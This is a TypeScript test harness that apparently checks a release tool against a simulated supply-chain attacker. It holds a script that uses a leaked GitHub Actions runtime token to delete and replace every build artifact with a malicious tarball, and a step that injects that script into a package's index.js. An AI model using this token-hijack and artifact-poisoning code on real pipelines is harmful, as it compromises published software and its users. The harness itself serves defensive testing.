// A release whose own code holds a runtime token of its run, and with it deletes and rewrites every artifact of the run.
import { spawn } from 'node:child_process'
import { cpSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { cleanEnvironment, git, prepareSubject, type RunEvent, rehearse, scenarioNamed } from '@plumbline/rehearsal'
import { packTarball, type World } from '@plumbline/standins'
import { projectRoot } from './rehearsal.ts'

/** What the attacker puts in the place of everything: another tarball of the same name and version, another record. */
const EVIL_TARBALL = 'spirit-level-1.2.0.tgz'
const EVIL_RECORD = {
  schema: 1,
  plumbline: '0.1.0',
  package: { name: 'spirit-level', ecosystem: 'npm', directory: '.' },
  notes: {
    found: true,
    how: 'section',
    path: 'EVIL.md',
    heading: '',
    date: '',
    'first-line': 1,
    'last-line': 1,
    body: 'evil',
  },
}

export interface HostileDay {
  readonly outcome: Awaited<ReturnType<typeof rehearse>>['outcome']
  readonly problems: readonly string[]
  /** That is released. */
  readonly commit: string
  readonly uploads: number
  /** Conclusion by job path. */
  readonly jobs: Readonly<Record<string, string>>
  /** Titles of the errors of each job. */
  readonly errors: Readonly<Record<string, readonly string[]>>
  /** Names of the artifacts that were rewritten, in order. */
  readonly rewritten: readonly string[]
  /** The last report's Markdown. */
  readonly report: string
}

export interface HostilePlan {
  /** The job whose runtime token the attacker holds. It outlives the job: a stolen token does, too. */
  readonly tokenOf: string
  /** Before which job the attack happens, as by a process that was left behind. */
  readonly before?: string
  /** Or by the package's own code, when the smoke test loads it. */
  readonly inSmokeTest?: boolean
}

/** One day with that attacker, in this process: the hostile code is our own. */
export async function hostileDay(plan: HostilePlan): Promise<HostileDay> {
  const scratch = realpathSync(mkdtempSync(join(tmpdir(), 'plumbline-hostile-')))
  try {
    const attack = await prepareAttack(scratch)
    const folder = repository(scratch, plan.inSmokeTest ? attack.script : undefined)
    const subject = await prepareSubject({
      kind: 'repository',
      folder,
      tag: 'v1.2.0',
      workflow: undefined,
      directory: '.',
      scratch,
    })
    const home = join(scratch, 'home')
    mkdirSync(home)
    const environment = cleanEnvironment(process.env, home)
    const seen = observe()
    let world: World | undefined
    const { outcome, problems } = await rehearse({
      subject,
      scenario: scenarioNamed('good-day'),
      projectRoot,
      scratch,
      environment,
      report: seen.report,
      announce: () => undefined,
      opened: (opened) => {
        world = opened
        leak(opened, plan.tokenOf, attack.leak)
      },
      beforeJob: async (job) => {
        if (job.path === plan.before) await run(attack.script, environment)
      },
    })
    const uploads = world?.npm.puts ?? -1
    return { outcome, problems, commit: subject.commit, uploads, ...seen.all(), rewritten: attack.rewritten() }
  } finally {
    rmSync(scratch, { recursive: true, force: true })
  }
}

/** The token of that job, in a file that the attacker reads, and valid for as long as the world stands. */
function leak(world: World, path: string, file: string): void {
  const open = world.openJob
  Object.assign(world, {
    openJob(identity: Parameters<World['openJob']>[0]) {
      const access = open(identity)
      if (identity.path !== path) return access
      writeFileSync(file, JSON.stringify({ token: access.runtimeToken, results: access.resultsUrl }))
      return { ...access, close: () => undefined }
    },
  })
}

async function prepareAttack(scratch: string) {
  const [leakFile, log, script] = [
    join(scratch, 'leak.json'),
    join(scratch, 'rewritten.txt'),
    join(scratch, 'attack.mjs'),
  ]
  const evil = { files: join(scratch, 'evil-files'), record: join(scratch, 'evil-record') }
  for (const path of Object.values(evil)) mkdirSync(path)
  const manifest = { name: 'spirit-level', version: '1.2.0', type: 'module', main: 'index.js' }
  const tarball = await packTarball(manifest, { 'index.js': 'export const tilt = () => "evil"\n' })
  writeFileSync(join(evil.files, EVIL_TARBALL), tarball)
  writeFileSync(join(evil.record, 'record.json'), JSON.stringify(EVIL_RECORD))
  writeFileSync(log, '')
  const client = join(projectRoot, 'node_modules/@actions/artifact/lib/artifact.js')
  const known = JSON.stringify({ leak: leakFile, log, client, evil, tarball: EVIL_TARBALL })
  writeFileSync(script, `const known = ${known}\n${ATTACK}`)
  const rewritten = () => readFileSync(log, 'utf8').split('\n').filter(Boolean)
  return { leak: leakFile, script, rewritten }
}

/** Deletes every artifact of the run and uploads another one under its name, with GitHub's own client. */
const ATTACK = `
import { appendFileSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
const { token, results } = JSON.parse(readFileSync(known.leak, 'utf8'))
Object.assign(process.env, { ACTIONS_RUNTIME_TOKEN: token, ACTIONS_RESULTS_URL: results })
const { DefaultArtifactClient } = await import(known.client)
const client = new DefaultArtifactClient()
const { artifacts } = await client.listArtifacts()
for (const { name } of artifacts) {
  const files = /^plumbline-(build|files)-/.test(name)
  const folder = files ? known.evil.files : known.evil.record
  await client.deleteArtifact(name)
  await client.uploadArtifact(name, [join(folder, files ? known.tarball : 'record.json')], folder)
  appendFileSync(known.log, name + '\\n')
}
`

const WORKFLOW = `name: publish
on: { push: { tags: ['v*'] } }
permissions: {}
jobs:
  release:
    permissions: { contents: write, actions: write, id-token: write }
    uses: plumbline-release/plumbline/.github/workflows/release.yml@v1
    with:
      environment: release
      smoke-test: node --input-type=module -e "import { tilt } from 'spirit-level'; if (tilt([1, 2, 6]) !== 3) process.exit(1)"
  report:
    needs: release
    if: \${{ always() }}
    permissions: { actions: read, contents: read, issues: write }
    uses: plumbline-release/plumbline/.github/workflows/report.yml@v1
    with: { needs: '\${{ toJSON(needs) }}' }
`

/** The npm example with that workflow; its own code attacks when it is loaded, if there is an attack in it. */
function repository(scratch: string, attack: string | undefined): string {
  const folder = join(scratch, 'spirit-level')
  cpSync(join(projectRoot, 'workflows-examples/npm'), folder, { recursive: true })
  writeFileSync(join(folder, '.github/workflows/publish.yml'), WORKFLOW)
  if (attack !== undefined) {
    const code = readFileSync(join(folder, 'index.js'), 'utf8')
    writeFileSync(join(folder, 'index.js'), `await import(${JSON.stringify(attack)})\n${code}`)
  }
  git(folder, ['init', '--quiet', '--initial-branch=main'])
  git(folder, ['add', '--all', '--force'])
  git(folder, ['commit', '--quiet', '--message', 'Release 1.2.0'])
  git(folder, ['tag', 'v1.2.0'])
  return folder
}

function run(script: string, environment: Readonly<Record<string, string>>): Promise<void> {
  const env = { ...environment, GITHUB_SERVER_URL: 'https://github.com' }
  const child = spawn(process.execPath, [script], { env, stdio: ['ignore', 'ignore', 'pipe'] })
  let said = ''
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => {
    said += chunk
  })
  return new Promise((resolve, reject) => {
    child.on('error', reject)
    child.on('close', (code) => (code === 0 ? resolve() : reject(new Error(`the attack failed: ${said}`))))
  })
}

function observe() {
  const jobs: Record<string, string> = {}
  const errors: Record<string, string[]> = {}
  let markdown = ''
  return {
    report(event: RunEvent) {
      if (event.kind === 'job-ended') jobs[event.path] = event.result.conclusion
      if (event.kind === 'job-skipped') jobs[event.path] = 'skipped'
      if (event.kind === 'step-annotation' && event.annotation.level === 'error') {
        errors[event.path] = [...(errors[event.path] ?? []), event.annotation.title ?? event.annotation.message]
      }
      if (event.kind === 'step-summary' && event.path === 'report/report') markdown = event.markdown
    },
    all: () => ({ jobs, errors, report: markdown }),
  }
}
